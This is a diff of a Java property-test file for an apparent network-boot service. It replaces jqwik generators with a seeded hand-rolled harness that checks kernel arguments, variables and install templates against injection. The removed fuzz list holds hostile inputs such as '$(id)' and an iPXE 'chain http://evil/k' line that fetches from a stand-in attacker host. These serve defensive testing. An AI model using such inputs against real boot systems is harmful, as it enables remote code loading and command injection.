@@ -18,12 +18,9 @@ import java.util.LinkedHashMap;
 import java.util.List;
 import java.util.Map;
 import java.util.concurrent.TimeUnit;
+import java.util.function.Function;
 import java.util.regex.Pattern;
-import net.jqwik.api.Arbitraries;
-import net.jqwik.api.Arbitrary;
-import net.jqwik.api.ForAll;
-import net.jqwik.api.Property;
-import net.jqwik.api.Provide;
+import org.junit.jupiter.api.Test;
 import org.rackboot.api.config.BootFactory;
 import org.rackboot.api.core.ApiException;
 import org.rackboot.api.core.BootHost;
@@ -47,6 +44,10 @@ import org.yaml.snakeyaml.Yaml;
  * (at write time with a 422 naming the field, or at render time with the reason) or rendered so
  * that the output has exactly the commands, lines or directives of its template. Seeded and
  * bounded, so it runs in CI in seconds.
+ *
+ * <p>Each property runs a fixed number of tries over {@link ArbitraryText} from its own fixed
+ * seed; {@code -Drackboot.propertySeed=N} runs every property from seed N instead. A failure
+ * names the seed, the try and the input as a Java string literal, first and shortest.
  */
 class BootScriptPropertiesTest {
 
@@ -72,25 +73,81 @@ class BootScriptPropertiesTest {
   private static final List<String> WAIT_SCRIPT =
       List.of("#", "echo", "echo", "sleep", "chain || reboot");
 
-  // ---------------------------------------------------------------- generators
+  // ---------------------------------------------------------------- tries
 
-  private static final List<String> NASTY = List.of("${", "${net0/mac}", "}", "&&", "||", ";",
-      "#", "#!ipxe", "\n", "\r", "\r\n", "\u0000", "\t", "\u000b", "\u0085", "\u2028", "\u2029",
-      "\ud800", "\udc00", "\ud83d\ude00", "\"", "'", "\\", "`", "$(id)", " ", "  ", "=",
-      "chain http://evil/k", ":label", "goto failed", "%pre", "d-i ", "- ", ": ", "{{x}}",
-      "quiet", "console=ttyS0", "a=\"b c\"", "é", "\ufeff", "\u007f");
+  /** Overrides every property's seed: to rerun a failure, or to explore past the fixed one. */
+  static final String SEED_PROPERTY = "rackboot.propertySeed";
 
-  @Provide
-  Arbitrary<String> hostile() {
-    Arbitrary<String> anyText = Arbitraries.strings().all().ofMaxLength(40);
-    Arbitrary<String> specials = Arbitraries.strings()
-        .withChars("ab=. \"'\\$#;&|{}\n\r\t\u0000/:,-_@+")
-        .ofMaxLength(30);
-    Arbitrary<String> pieces = Arbitraries.of(NASTY).list().ofMaxSize(6)
-        .map(l -> String.join("", l));
-    Arbitrary<String> words = Arbitraries.strings().withCharRange('a', 'z').ofMinLength(1)
-        .ofMaxLength(8).list().ofMinSize(1).ofMaxSize(4).map(l -> String.join(" ", l));
-    return Arbitraries.oneOf(anyText, specials, pieces, words);
+  /** One check of a property against one generated input. */
+  @FunctionalInterface
+  interface Check<T> {
+    void accept(T input) throws Exception;
+  }
+
+  private record Failure(int attempt, String input, Throwable error) {}
+
+  /**
+   * Runs {@code check} on {@code tries} inputs drawn by {@code generate} from {@code seed} (or
+   * the seed of {@value #SEED_PROPERTY}). All tries run; a failure reports how many failed, the
+   * first and the shortest failing input, each with its try and message.
+   */
+  static <T> void forAll(String property, long seed, int tries,
+      Function<ArbitraryText, T> generate, Function<T, String> show, Check<T> check) {
+    long used = seed(seed);
+    ArbitraryText text = new ArbitraryText(used);
+    Failure first = null;
+    Failure shortest = null;
+    int failed = 0;
+    for (int attempt = 1; attempt <= tries; attempt++) {
+      T input = generate.apply(text);
+      try {
+        check.accept(input);
+      } catch (Exception | AssertionError e) {
+        failed++;
+        Failure f = new Failure(attempt, show.apply(input), e);
+        if (first == null) {
+          first = f;
+        }
+        if (shortest == null || f.input.length() < shortest.input.length()) {
+          shortest = f;
+        }
+      }
+    }
+    if (first == null) {
+      return;
+    }
+    StringBuilder message = new StringBuilder()
+        .append(property).append(": ").append(failed).append(" of ").append(tries)
+        .append(" tries failed, seed ").append(used)
+        .append(" (rerun with -D").append(SEED_PROPERTY).append('=').append(used).append(')')
+        .append("\nfirst failure, try ").append(first.attempt).append(": ").append(first.input)
+        .append("\n  ").append(first.error);
+    if (shortest != first) {
+      message.append("\nshortest failing input, try ").append(shortest.attempt).append(": ")
+          .append(shortest.input).append("\n  ").append(shortest.error);
+    }
+    AssertionError error = new AssertionError(message.toString(), first.error);
+    if (shortest != first) {
+      error.addSuppressed(shortest.error);
+    }
+    throw error;
+  }
+
+  /** A property over one hostile string. */
+  static void forAll(String property, long seed, int tries, Check<String> check) {
+    forAll(property, seed, tries, ArbitraryText::next, ArbitraryText::javaLiteral, check);
+  }
+
+  private static long seed(long fixed) {
+    String override = System.getProperty(SEED_PROPERTY);
+    if (override == null || override.isBlank()) {
+      return fixed;
+    }
+    try {
+      return Long.parseLong(override.strip());
+    } catch (NumberFormatException e) {
+      throw new IllegalArgumentException(SEED_PROPERTY + " is not a number: " + override, e);
+    }
   }
 
   // ---------------------------------------------------------------- iPXE
@@ -155,7 +212,9 @@ class BootScriptPropertiesTest {
         .host(MAC, host);
     BootDecider decider = new BootDecider(inventory, List.of(), false, AGENT);
     BootEvents events = new BootEvents(null, JSON, new EventSignal());
-    BootResource scripts = new BootResource(null, null, decider, (h, i, t) -> { },
+    BootResource scripts = new BootResource(null, null, decider,
+        (h, m, i) -> new BootResource.InstallStarts.Grant(
+            BootResource.InstallStarts.Kind.ISSUED, "rbp_test"),
         new BootFactory(), "discovery-token", events, new BootClients(),
         new InstallTemplates(null), null);
     return scripts.scriptFor(MAC, "10.1.0.50", BASE);
@@ -184,9 +243,14 @@ class BootScriptPropertiesTest {
     return List.of(w).subList(3, w.length - 3);
   }
 
-  @Property(tries = 2000, seed = "20261208")
-  void roleKernelArgsAreRefusedOrBootExactlyTheTemplatesCommands(
-      @ForAll("hostile") String kernelArgs) {
+  @Test
+  void roleKernelArgsAreRefusedOrBootExactlyTheTemplatesCommands() {
+    forAll("roleKernelArgsAreRefusedOrBootExactlyTheTemplatesCommands", 20261208L, 2000,
+        BootScriptPropertiesTest::roleKernelArgsAreRefusedOrBootExactlyTheTemplatesCommands);
+  }
+
+  private static void roleKernelArgsAreRefusedOrBootExactlyTheTemplatesCommands(
+      String kernelArgs) {
     String accepted;
     try {
       accepted = KernelCommandLine.check("kernelArgs", kernelArgs, 4000);
@@ -206,9 +270,26 @@ class BootScriptPropertiesTest {
     }
   }
 
-  @Property(tries = 2000, seed = "20261209")
-  void variablesThroughBootArgsAreRefusedOrStayOneWord(@ForAll("hostile") String value,
-      @ForAll boolean raw) {
+  /** A variable's value, and whether the operator's template writes it raw. */
+  private record Variable(String value, boolean raw) {
+    static Variable next(ArbitraryText text) {
+      String value = text.next();
+      return new Variable(value, text.nextBoolean());
+    }
+
+    String show() {
+      return ArbitraryText.javaLiteral(value) + (raw ? " (raw)" : " (escaped)");
+    }
+  }
+
+  @Test
+  void variablesThroughBootArgsAreRefusedOrStayOneWord() {
+    forAll("variablesThroughBootArgsAreRefusedOrStayOneWord", 20261209L, 2000, Variable::next,
+        Variable::show, v -> variablesThroughBootArgsAreRefusedOrStayOneWord(v.value, v.raw));
+  }
+
+  private static void variablesThroughBootArgsAreRefusedOrStayOneWord(String value,
+      boolean raw) {
     ObjectNode vars = JSON.createObjectNode().put("timezone", value);
     try {
       Checks.variables("variables", vars);
@@ -292,8 +373,13 @@ class BootScriptPropertiesTest {
     return text.replaceAll("(?s)('[^']*'|\\\\')+", "Q");
   }
 
-  @Property(tries = 2000, seed = "20261210")
-  void everyBuiltInTemplateKeepsItsDirectives(@ForAll("hostile") String value) throws Exception {
+  @Test
+  void everyBuiltInTemplateKeepsItsDirectives() {
+    forAll("everyBuiltInTemplateKeepsItsDirectives", 20261210L, 2000,
+        BootScriptPropertiesTest::everyBuiltInTemplateKeepsItsDirectives);
+  }
+
+  private static void everyBuiltInTemplateKeepsItsDirectives(String value) throws Exception {
     InstallTemplates t = new InstallTemplates(null);
     String benign = value.isEmpty() ? "" : "x";
     for (String name : List.of("kickstart.ks", "preseed.cfg", "user-data", "meta-data",
@@ -355,8 +441,13 @@ class BootScriptPropertiesTest {
    * The shell quoting checked by the shell itself: install.sh parses ({@code bash -n}), and a
    * quoted value comes back byte for byte from {@code printf %s}. Fewer tries: each runs bash.
    */
-  @Property(tries = 150, seed = "20261211")
-  void theShellReadsQuotedValuesBackExactly(@ForAll("hostile") String value) throws Exception {
+  @Test
+  void theShellReadsQuotedValuesBackExactly() {
+    forAll("theShellReadsQuotedValuesBackExactly", 20261211L, 150,
+        BootScriptPropertiesTest::theShellReadsQuotedValuesBackExactly);
+  }
+
+  private static void theShellReadsQuotedValuesBackExactly(String value) throws Exception {
     if (value.indexOf('\0') >= 0) {
       return; // refused above: a shell word cannot hold NUL
     }
